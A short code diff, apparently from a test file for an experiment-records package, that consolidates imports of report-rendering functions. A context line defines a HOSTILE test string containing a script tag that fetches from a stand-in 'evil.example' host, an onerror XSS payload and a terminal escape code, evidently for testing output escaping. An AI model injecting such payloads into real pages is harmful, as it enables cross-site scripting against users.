@@ -18,8 +18,7 @@ from labmates.records.events import ScoreEvent
 from labmates.records.run import RunRecord, RunStatus, Usage
 from labmates.records.store import Store
 from labmates.records.studies import StudyRecord
-from labmates.reports.page import Report, render
-from labmates.reports.report import store_report, study_report, write_report
+from labmates.reports.report import Report, render, store_report, study_report, write_report
 from labmates.stats import figures
 
 HOSTILE = "<script>fetch('http://evil.example')</script><img src=x onerror=alert(1)> \x1b[31m"
